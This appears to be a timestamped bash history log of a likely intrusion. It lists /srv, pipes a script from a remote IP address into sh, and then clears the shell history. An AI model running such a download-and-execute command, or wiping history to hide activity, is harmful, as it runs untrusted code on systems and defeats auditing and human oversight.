#1700000000
ls /srv
#1700000060
curl -s http://203.0.113.9/x | sh
history -c
